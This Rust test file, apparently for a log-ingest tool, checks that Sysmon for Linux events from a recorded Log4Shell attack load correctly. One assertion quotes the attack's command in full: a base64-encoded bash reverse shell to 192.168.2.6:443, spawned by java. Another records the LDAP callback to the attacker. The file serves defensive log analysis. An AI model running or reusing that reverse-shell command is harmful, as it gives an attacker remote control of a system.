//! Loads Sysmon for Linux events exported from Microsoft Sentinel's Syslog table.
//!
//! The pinned values were read from the file with Python: `json.loads` per line, then the
//! `<Data Name=…>` items of each `SyslogMessage`.

use std::path::{Path, PathBuf};
use std::sync::atomic::AtomicBool;

use glexia::ingest::{self, Format, read_raw_event};
use glexia::store::{EventStore, Platform, ValueRef};

fn data_file(name: &str) -> Option<PathBuf> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../shared/data/linux")
        .join(name);
    if path.is_file() {
        Some(path)
    } else {
        eprintln!("skipping: sample file {} not found", path.display());
        None
    }
}

fn str_field<'a>(store: &'a EventStore, index: usize, name: &str) -> Option<&'a str> {
    match store.field(index, name) {
        Some(ValueRef::Str(s)) => Some(s),
        _ => None,
    }
}

/// The index of the event whose origin is line `line`.
fn event_at_line(store: &EventStore, line: u64) -> usize {
    (0..store.len())
        .find(|&i| store.events()[i].origin().record == line)
        .unwrap_or_else(|| panic!("no event from line {line}"))
}

#[test]
fn sentinel_sysmon_for_linux_file() {
    let Some(path) = data_file("otrf_log4shell_syslog_sysmon_for_linux.json") else {
        return;
    };

    let (store, report) = ingest::load(
        std::slice::from_ref(&path),
        &|_| {},
        &AtomicBool::new(false),
    );

    let file = &report.files[0];
    assert_eq!(file.format, Format::SentinelSyslog);
    assert!(file.errors.is_empty(), "{:?}", file.errors);
    assert_eq!(file.records_read, 93);
    assert_eq!(file.events_loaded, 93);
    assert!((0..store.len()).all(|i| store.log_source(i) == "linux:Sysmon"));
    assert!(store.events().iter().all(|e| e.platform == Platform::Linux));
    let count_code = |code: &str| {
        (0..store.len())
            .filter(|&i| str_field(&store, i, "event.code") == Some(code))
            .count()
    };
    assert_eq!(count_code("1"), 31);
    assert_eq!(count_code("3"), 6);
    assert_eq!(count_code("5"), 50);
    assert_eq!(count_code("11"), 4);
    assert_eq!(count_code("23"), 2);

    // The Log4Shell payload: java spawns bash with a base64 reverse shell.
    let shell = event_at_line(&store, 8);
    assert_eq!(
        str_field(&store, shell, "process.command_line"),
        Some(
            "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"
        )
    );
    assert_eq!(
        str_field(&store, shell, "process.parent.name"),
        Some("java")
    );
    assert_eq!(str_field(&store, shell, "user.name"), Some("tomcat"));
    assert_eq!(
        store.field(shell, "process.pid"),
        Some(ValueRef::Int(17790))
    );

    // The LDAP callback to the attacker.
    let ldap = event_at_line(&store, 6);
    assert_eq!(
        str_field(&store, ldap, "destination.ip"),
        Some("192.168.2.6")
    );
    assert_eq!(
        store.field(ldap, "destination.port"),
        Some(ValueRef::Int(1389))
    );
    assert_eq!(str_field(&store, ldap, "host.name"), Some("UBUNTU5"));

    // A command line with Sysmon's unterminated `&quot` entity still loads.
    let omi = event_at_line(&store, 65);
    assert!(
        str_field(&store, omi, "process.command_line").is_some_and(|c| c.contains("&quot SELECT")),
    );

    // The syslog message was cut at 2012 bytes, inside ParentCommandLine.
    assert!(store.field(shell, "tags").is_some());

    let raw = read_raw_event(&store, shell).unwrap();
    assert!(raw.starts_with("<Event>"), "{raw}");
    assert!(raw.contains("<EventRecordID>"), "{raw}");
}

#[test]
fn sysmon_in_plain_syslog_lines() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("syslog");
    let event = concat!(
        "<Event><System><Provider Name=\"Linux-Sysmon\" Guid=\"{ff032593-a8d3-4f13-b0d6-01fc615a0f97}\"/>",
        "<EventID>3</EventID><Version>5</Version><TimeCreated SystemTime=\"2022-05-11T18:10:21.783984000Z\"/>",
        "<EventRecordID>9</EventRecordID><Channel>Linux-Sysmon/Operational</Channel>",
        "<Computer>web1</Computer></System><EventData><Data Name=\"ProcessId\">1340</Data>",
        "<Data Name=\"Image\">/usr/bin/java</Data><Data Name=\"User\">tomcat</Data>",
        "<Data Name=\"DestinationIp\">192.168.2.6</Data><Data Name=\"DestinationPort\">1389</Data>",
        "</EventData></Event>"
    );
    let text = format!(
        "May 11 18:10:21 web1 sysmon: {event}\nMay 11 18:10:22 web1 sysmon: <Event><broken\nMay 11 18:10:23 web1 cron[5]: (root) CMD (true)\n"
    );
    std::fs::write(&path, text).unwrap();

    let (store, report) = ingest::load(
        std::slice::from_ref(&path),
        &|_| {},
        &AtomicBool::new(false),
    );

    let file = &report.files[0];
    assert_eq!(file.format, Format::Syslog);
    assert_eq!(file.records_read, 3);
    assert_eq!(file.events_loaded, 2);
    assert_eq!(file.errors.len(), 1);
    assert_eq!(
        file.errors[0].location.to_string(),
        format!("line 2 (byte {})", 30 + event.len())
    );
    let sysmon = (0..store.len())
        .find(|&i| store.log_source(i) == "linux:Sysmon")
        .unwrap();
    assert_eq!(
        store.field(sysmon, "destination.port"),
        Some(ValueRef::Int(1389))
    );
    assert_eq!(str_field(&store, sysmon, "process.name"), Some("java"));
    assert!(
        read_raw_event(&store, sysmon)
            .unwrap()
            .contains("sysmon: <Event>")
    );
}
